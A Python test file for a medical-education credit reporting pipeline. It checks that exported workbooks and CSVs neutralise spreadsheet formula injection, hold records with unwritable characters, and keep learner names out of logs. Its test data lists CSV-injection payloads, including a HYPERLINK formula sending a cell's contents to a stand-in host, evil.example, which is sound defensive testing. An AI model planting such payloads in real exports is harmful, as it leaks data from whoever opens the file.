"""Issue 9 and 10: a value a format cannot carry holds that one record (never the whole
batch, never logged); a failed export fails the run; no text cell in any workbook or
CSV we write can be a formula (OWASP CSV injection), and ordinary names are untouched."""
from __future__ import annotations

import csv
import io
import json
import logging
import shutil
import stat
import zipfile
from datetime import date
from decimal import Decimal
from pathlib import Path

import duckdb
import pytest
from openpyxl import load_workbook

from cme import pipeline
from cme.bodies.base import Field
from cme.bodies.cebroker import write_rosters
from cme.bodies.cpe_monitor import write_requests
from cme.bodies.pars import write_template
from cme.npi import make_npi
from cme.pipeline import RunContext
from cme.settings import ProviderSettings
from cme.summary import format_summary
from cme.textcells import UnwritableValue, neutralise, unwritable_fields
from cme.transcripts import Transcript, to_csv
from tests import scenario

SURNAME = "Qwertzmann"  # distinctive: must show up in no log, message or summary
ORDINARY = ["O'Brien", "José Núñez", "Smith-Jones", "van der Berg", "Zoë"]
MALICIOUS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A2)",
             "\t=1+1", "\r=1+1", "=1+1"]


# --- the rule itself -----------------------------------------------------------------

def test_neutralise_quotes_formula_starts_and_leaves_everything_else_alone():
    for name in MALICIOUS:
        assert neutralise(name) == "'" + name
    for name in ORDINARY + ["", "12345", "06/09/2026", "'already quoted"]:
        assert neutralise(name) == name
    for value in (Decimal("-1.50"), -2, 1.5, None, date(2026, 6, 9)):
        assert neutralise(value) == value  # numbers and dates keep their type


@pytest.mark.parametrize("bad", ["\x00", "\x01", "\x07", "\t", "\n", "\r", "\x1f", "\x7f", "\x85",
                                 "\x9f", "\ufffe", "\uffff"])
def test_characters_no_format_can_carry_are_found(bad):
    record = {"last_name": f"Ann{bad}e", "first_name": "José Núñez", "npi": None}
    assert unwritable_fields(record, ["first_name", "last_name", "npi"]) == ["last_name"]


def test_ordinary_names_are_writable():
    # each name on its own (a dict comprehension with one key kept only the last name)
    assert [n for n in ORDINARY if unwritable_fields({"n": n}, ["n"])] == []
    assert all(not unwritable_fields({"n": n}, ["n"]) for n in ORDINARY + MALICIOUS[:4])


# --- every writer -------------------------------------------------------------------

PARS_FIELDS = [Field(1, "", "First Name", "first_name"), Field(2, "", "Last Name", "last_name"),
               Field(3, "", "Completion Date", "completion_date"),
               Field(4, "", "CME Credits", "cme_credits")]


def _pars_records(names):
    return [{"record_key": f"K{i}", "first_name": "Ann", "last_name": n, "completion_date": "06/09/2026",
             "cme_credits": Decimal("1.50")} for i, n in enumerate(names)]


def test_pars_workbook_stores_every_text_cell_as_text_and_neutralised(tmp_path):
    names = ORDINARY + MALICIOUS
    [out] = write_template(_pars_records(names), PARS_FIELDS, tmp_path, "B1", ProviderSettings())
    with zipfile.ZipFile(out.path) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/")]
        for sheet in sheets:
            assert b"<f>" not in book.read(sheet) and b"<f " not in book.read(sheet)
    rows = list(load_workbook(out.path).active.iter_rows(min_row=2))
    for row, name in zip(rows, names):
        first, last, completed, credits = row
        assert last.data_type == "s" and first.value == "Ann"
        assert last.value == (name if name in ORDINARY else "'" + name)
        assert completed.value == "06/09/2026"
        assert credits.data_type == "n" and credits.value == 1.5  # numbers stay numbers


def test_a_writer_error_names_record_and_field_never_the_value(tmp_path):
    with pytest.raises(UnwritableValue) as caught:
        write_template(_pars_records(["Smith", SURNAME + "\x07"]), PARS_FIELDS, tmp_path, "B1",
                       ProviderSettings())
    assert "K1" in str(caught.value) and "Last Name" in str(caught.value)
    assert SURNAME not in str(caught.value)
    assert caught.value.__context__ is None or SURNAME not in repr(caught.value.__cause__)
    fields = [Field(1, "roster", "id_course", "course_number"),
              Field(2, "roster", "date", "completion_date"),
              Field(3, "attendee", "last_name", "last_name")]
    record = {"record_key": "CB1", "course_number": "1", "completion_date": "06/09/2026",
              "last_name": SURNAME + "\x01"}
    with pytest.raises(UnwritableValue) as caught:
        write_rosters([record], fields, tmp_path, "B2", ProviderSettings())
    assert "CB1" in str(caught.value) and "last_name" in str(caught.value)
    assert SURNAME not in str(caught.value)


def test_cpe_monitor_batch_csv_is_neutralised_and_hours_stay_numbers(tmp_path):
    fields = [Field(1, "", "epid", "epid"), Field(2, "", "uan", "uan"),
              Field(3, "", "hours", "contact_hours")]
    records = [{"record_key": "C1", "epid": "=1+1", "uan": "0204-0000-26-001-H01-P",
                "contact_hours": Decimal("-1.00")},
               {"record_key": "C2", "epid": "12345", "uan": "@x", "contact_hours": Decimal("2.50")}]
    requests, batch = write_requests(records, fields, tmp_path, "B3", ProviderSettings())
    rows = list(csv.reader(io.StringIO(batch.path.read_text(), newline="")))
    assert rows[1] == ["'=1+1", "0204-0000-26-001-H01-P", "-1.00"]
    assert rows[2] == ["12345", "'@x", "2.50"]
    # the request log is what the API gets: the body's own values, unquoted
    assert json.loads(requests.path.read_text().splitlines()[0])["epid"] == "=1+1"


def test_transcript_csv_is_neutralised_and_ordinary_text_unchanged():
    rows = [dict(completed_on=date(2026, 6, 9), activity_id="A-1", title=t, credit_type="AMA_PRA_1",
                 report_label="AMA PRA Category 1 Credit", unit="credit", credits_awarded=Decimal("1.00"),
                 reported="ACCME_PARS: written") for t in ("=HYPERLINK(\"x\")", "O'Brien on José Núñez")]
    text = to_csv(Transcript("P-1", "Ann", date(2026, 1, 1), date(2026, 12, 31), rows)).decode()
    parsed = list(csv.reader(io.StringIO(text, newline="")))
    assert parsed[1][3] == "'=HYPERLINK(\"x\")" and parsed[1][1] == "2026-06-09" and parsed[1][7] == "1.00"
    assert parsed[2][3] == "O'Brien on José Núñez"


# --- the pipeline, in process ---------------------------------------------------------

D = scenario.D1


def _npi(n: int) -> str:
    return make_npi(f"10040{n:04d}")


# Ingest quarantines C0 controls (but tab/CR/LF) and DEL (docs/decisions.md, "Ingest:
# file-level errors and row-level quarantine"): H-NUL never reaches a mart. What ingest
# admits and no format can carry (C1 controls, U+FFFE) is held by the marts.
LEARNERS = [
    scenario._learner("H-CTRL", "physician", npi=_npi(1), last=SURNAME + "\x9f"),
    scenario._learner("H-NUL", "physician", npi=_npi(2), last="Nul\x00l"),
    scenario._learner("H-NONCHAR", "physician", npi=_npi(4), last="Non\ufffechar"),
    scenario._learner("H-OK", "physician", npi=_npi(3)),
    *[scenario._learner(f"H-ORD{i}", "physician", npi=_npi(10 + i), last=n) for i, n in enumerate(ORDINARY)],
    *[scenario._learner(f"H-EVIL{i}", "physician", npi=_npi(30 + i), last=n)
      for i, n in enumerate(MALICIOUS[:4])],
    scenario._learner("HN-CTRL", "nurse", last=SURNAME + "\x9f"),
    scenario._learner("HN-OK", "nurse"),
    scenario._learner("HPH-CTRL", "pharmacist", epid="12\x8534"),
    scenario._learner("HPH-OK", "pharmacist", epid="777"),
]
LICENSES = [dict(learner_id="HN-CTRL", state="FL", license_number="RN1111111", license_profession="RN"),
            dict(learner_id="HN-OK", state="FL", license_number="RN2222222", license_profession="RN")]


def _landing(root: Path) -> Path:
    day = root / D.isoformat()
    scenario._write(day, "activities.csv", [scenario._activity("A-REG")])
    scenario._write(day, "activity_credits.csv", [c for c in scenario.CREDITS if c["activity_id"] == "A-REG"])
    scenario._write(day, "learners.csv", LEARNERS)
    scenario._write(day, "learner_licenses.csv", LICENSES)
    scenario._write(day, "lms_completions.csv",
                    [scenario._done(f"c-{row['learner_id']}", row["learner_id"], "A-REG") for row in LEARNERS])
    return root


class _Everything(logging.Handler):
    def __init__(self):
        super().__init__(logging.DEBUG)
        self.lines: list[str] = []

    def emit(self, record):
        self.lines.append(self.format(record))


@pytest.fixture(scope="module")
def hygiene_run(tmp_path_factory):
    root = tmp_path_factory.mktemp("hygiene")
    landing, out = _landing(root / "landing"), root / "out"
    handler = _Everything()
    logging.getLogger().addHandler(handler)
    previous = logging.getLogger().level
    logging.getLogger().setLevel(logging.DEBUG)
    try:
        ctx = RunContext(D, landing, out, None)
        pipeline.check_settings(ctx)
        pipeline.ingest(ctx, load_id="hygiene")
        pipeline.build(ctx)
        results = {}
        for body in pipeline.list_bodies(ctx):
            results[body] = {"gate": pipeline.gate(ctx, body), "export": pipeline.export(ctx, body)}
        pipeline.refresh_after_export(ctx)
        results["summary"] = pipeline.summarize(ctx)
        results["check"] = pipeline.check_exports(ctx)
    finally:
        logging.getLogger().removeHandler(handler)
        logging.getLogger().setLevel(previous)
    return ctx, results, handler.lines


def _learner_keys(con, body: str) -> dict[str, tuple[str, list[str], str]]:
    """learner id -> (record_key, error_codes, submission_state) for a body's Add records."""
    mart = {"ACCME_PARS": "fct_pars_records", "CE_BROKER": "fct_cebroker_records",
            "CPE_MONITOR": "fct_cpe_monitor_records"}[body]
    return {lid: (key, codes, state) for lid, key, codes, state in con.execute(
        f"select a.learner_id, r.record_key, r.error_codes, r.submission_state from main.{mart} as r "
        "inner join intermediate.int_accounts_linked as a using (person_id) "
        "where r.record_action = 'Add'").fetchall()}


def test_a_bad_character_holds_that_record_and_the_rest_are_written(hygiene_run):
    ctx, results, _ = hygiene_run
    con = duckdb.connect(str(ctx.warehouse), read_only=True)
    try:
        assert con.execute(
            "select \"column\", reason from raw.quarantine where raw_values->>'learner_id' = 'H-NUL'"
        ).fetchall() == [("last_name", "control character in the value (C0 other than tab/CR/LF, or DEL)")]
        for body, held, sent in (("ACCME_PARS", {"H-CTRL", "H-NONCHAR"}, "H-OK"),
                                 ("CE_BROKER", {"HN-CTRL"}, "HN-OK"),
                                 ("CPE_MONITOR", {"HPH-CTRL"}, "HPH-OK")):
            assert results[body]["export"]["status"] == "written", body
            records = _learner_keys(con, body)
            for learner in held:
                key, codes, state = records[learner]
                assert "UNSUPPORTED_CHARACTER" in codes and state == "pending", (body, learner)
                assert con.execute(
                    "select count(*) from fct_compliance_exceptions where record_key = ? "
                    "and reason_code = 'UNSUPPORTED_CHARACTER' and status = 'open'", [key]).fetchone()[0] == 1
            assert records[sent][2] == "written" and records[sent][1] == [], body
            line = format_summary(results["summary"]).split(f"  {body}:")[1].splitlines()[0]
            assert line.endswith("(ok)"), line
        ordinary = [f"H-ORD{i}" for i in range(len(ORDINARY))] + [f"H-EVIL{i}" for i in range(4)]
        pars = _learner_keys(con, "ACCME_PARS")
        assert all(pars[lid][2] == "written" for lid in ordinary)
    finally:
        con.close()


def test_the_written_pars_workbook_carries_ordinary_names_as_is_and_no_formula(hygiene_run):
    ctx, results, _ = hygiene_run
    [name] = [f for f in results["ACCME_PARS"]["export"]["files"] if f.endswith(".xlsx")]
    path = next((ctx.out / "submissions" / "ACCME_PARS").rglob(name))
    with zipfile.ZipFile(path) as book:
        assert not [n for n in book.namelist() if n.startswith("xl/worksheets/") and b"<f>" in book.read(n)]
    sheet = load_workbook(path).active
    header = [c.value for c in sheet[1]]
    last = header.index("Last Name")
    names = {row[last].value for row in sheet.iter_rows(min_row=2)}
    assert set(ORDINARY) <= names
    assert {"'" + n for n in MALICIOUS[:4]} <= names
    assert not names & set(MALICIOUS)
    assert all(row[last].data_type == "s" for row in sheet.iter_rows(min_row=2))


def test_no_learner_value_in_any_log_message_or_summary(hygiene_run):
    ctx, results, lines = hygiene_run
    assert lines, "the run logged nothing: the capture is not working"
    assert not [line for line in lines if SURNAME in line]
    assert SURNAME not in json.dumps(results, default=str)
    assert SURNAME not in format_summary(results["summary"])
    stored = ctx.out / "raw" / "sha256"  # the landed files as received (cme.rawstore)
    for path in ctx.out.rglob("*"):
        if path.is_file() and stored in path.parents:
            # the extracts' own bytes, learners included: kept like the warehouse, owner-only
            assert stat.S_IMODE(path.stat().st_mode) == 0o600, path
        elif path.is_file() and ".duckdb" not in path.name:
            assert SURNAME.encode() not in path.read_bytes(), path


def test_a_failed_export_fails_the_run_and_says_so_without_the_value(hygiene_run, tmp_path, monkeypatch):
    ctx, _, _ = hygiene_run
    out = tmp_path / "out"
    shutil.copytree(ctx.out, out)
    failing = RunContext(ctx.run_date, ctx.landing, out, None)

    def boom(*args, **kwargs):
        raise ValueError(f"{SURNAME} cannot be used in worksheets.")  # as openpyxl words it

    monkeypatch.setattr("cme.export.export_body", boom)
    with pytest.raises(pipeline.ExportFailed) as caught:
        pipeline.export(failing, "ACCME_PARS")
    assert "ACCME_PARS" in str(caught.value) and "ValueError" in str(caught.value)
    assert SURNAME not in str(caught.value) and caught.value.__context__ is None
    status = json.loads((out / "exports" / "ACCME_PARS" / f"{D.isoformat()}.json").read_text())
    assert status["status"] == "failed" and SURNAME not in json.dumps(status)
    summary = pipeline.summarize(failing)
    text = format_summary(summary)
    assert "ACCME_PARS" in text and "FAILED: export: ValueError" in text.split("  ACCME_PARS:")[1].splitlines()[0]
    assert SURNAME not in text and SURNAME not in json.dumps(summary)
    assert "(ok)" in text.split("  CE_BROKER:")[1].splitlines()[0]
    with pytest.raises(pipeline.RunFailed, match="ACCME_PARS"):
        pipeline.check_exports(failing)


def test_the_dag_ends_on_the_export_check_so_a_failed_export_fails_the_run(tmp_path_factory):
    import os

    os.environ.setdefault("AIRFLOW_HOME", str(tmp_path_factory.mktemp("airflow_home")))
    os.environ["AIRFLOW__CORE__LOAD_EXAMPLES"] = "False"
    from airflow.dag_processing.dagbag import DagBag

    dag = DagBag(dag_folder=str(Path(__file__).resolve().parents[1] / "dags")).dags["cme_daily_reporting"]
    leaves = [t.task_id for t in dag.tasks if not t.downstream_task_ids]
    assert leaves == ["check_exports"]
    assert "run_summary" in dag.get_task("check_exports").upstream_task_ids
    # it runs whatever came before (all_done) and fails the run itself when an earlier step
    # failed, since the tasks between may have skipped (tests/test_run_failures.py)
    assert dag.get_task("check_exports").trigger_rule == "all_done"


@pytest.mark.e2e
def test_cme_run_exits_non_zero_names_the_failed_body_and_logs_no_learner_value(tmp_path):
    """One real DAG run (slow: the failed export is retried by Airflow) on the small landing:
    the control-character learners are held, PARS's export fails for a reason of its own
    (its submission folder cannot be created), the other bodies still write."""
    from tests.conftest import run_cme

    landing, out = _landing(tmp_path / "landing"), tmp_path / "out"
    (out / "submissions").mkdir(parents=True)
    (out / "submissions" / "ACCME_PARS").write_text("not a folder")
    proc = run_cme("run", "--landing", landing, "--out", out, "--date", D.isoformat())
    assert proc.returncode == 1, proc.stdout + proc.stderr
    assert "export[ACCME_PARS] failed" in proc.stderr
    pars = proc.stdout.split("  ACCME_PARS:")[1].splitlines()[0]
    assert "FAILED: export:" in pars and "(ok)" in proc.stdout.split("  CE_BROKER:")[1].splitlines()[0]
    log = (out / "logs" / "airflow_runs.log").read_text(errors="replace")
    assert "check_exports" in log
    # the failed export alerted (file, log line) naming its body; the run's end did too
    alert = json.loads((out / "alerts" / f"task_failed_{D.isoformat()}_export_ACCME_PARS.json").read_text())
    assert alert["task_id"] == "export" and alert["error_class"] == "ExportFailed"
    assert "TASK FAILED export[ACCME_PARS]" in log
    assert (out / "alerts" / f"task_failed_{D.isoformat()}_check_exports.json").exists()
    assert "refresh_ledger_marts" not in proc.stderr  # it ran: only exports failed
    for text in (proc.stdout, proc.stderr, log):
        assert SURNAME not in text
